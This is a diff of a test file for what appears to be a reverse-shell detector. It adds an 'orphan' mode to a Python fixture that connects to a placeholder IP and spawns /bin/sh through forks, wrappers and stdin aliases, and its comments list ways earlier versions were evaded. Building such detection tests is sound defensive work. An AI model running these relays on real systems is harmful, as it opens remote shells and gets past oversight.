@@ -187,7 +187,9 @@ python3 b.py; echo done`);
 });
 
 // (a fourth review, session 41: the connecting process forked first, or a `sh -c 'sh; true'` stood between it and
-//  the shell, or the shell's script was stdin under another name — each got past a parent-only check)
+//  the shell, or the shell's script was stdin under another name — each got past a parent-only check; CI, session 42:
+//  the forked child had exited before its shell's exec record was read, and /proc no longer named its parent —
+//  `orphan` exits at once, so only the parents the kernel listed at the exec join the chain)
 const RELAY_PY = `import os, socket, subprocess, sys
 mode = sys.argv[1]
 s = socket.create_connection(("198.51.100.10", 80), timeout=3)
@@ -200,11 +202,23 @@ if mode == "fork":
     if pid == 0:
         run(["/bin/sh"]); sys.stdout.flush(); os._exit(0)
     os.waitpid(pid, 0)
+elif mode == "orphan":
+    r, w = os.pipe(); r2, w2 = os.pipe()
+    if os.fork() == 0:
+        subprocess.Popen(["/bin/sh"], stdin=r, stdout=w2, stderr=w2); os._exit(0)
+    os.close(r); os.close(w2); os.wait()
+    os.write(w, b"echo ran-$$\\n"); os.close(w)
+    out = b""
+    while True:
+        b = os.read(r2, 4096)
+        if not b: break
+        out += b
+    print(mode, out.decode().strip())
 elif mode == "wrap": run(["/bin/sh", "-c", "sh; true"])
 elif mode == "devstdin": run(["/bin/sh", "/dev/stdin"])
 else: run(["/bin/bash", "/proc/self/fd/0"])`;
 
-for (const mode of ['fork', 'wrap', 'devstdin', 'bashfd']) {
+for (const mode of ['fork', 'orphan', 'wrap', 'devstdin', 'bashfd']) {
   test(`a relayed shell the connecting process reaches through a fork, a wrapper or stdin's other names: ${mode}`, async () => {
     const { r, alerts } = await oneCall(`cat > relay.py <<'EOF'\n${RELAY_PY}\nEOF\npython3 relay.py ${mode}; echo done`);
     assert.match(r.stdout, new RegExp(`${mode} ran-\\d+\\ndone`));
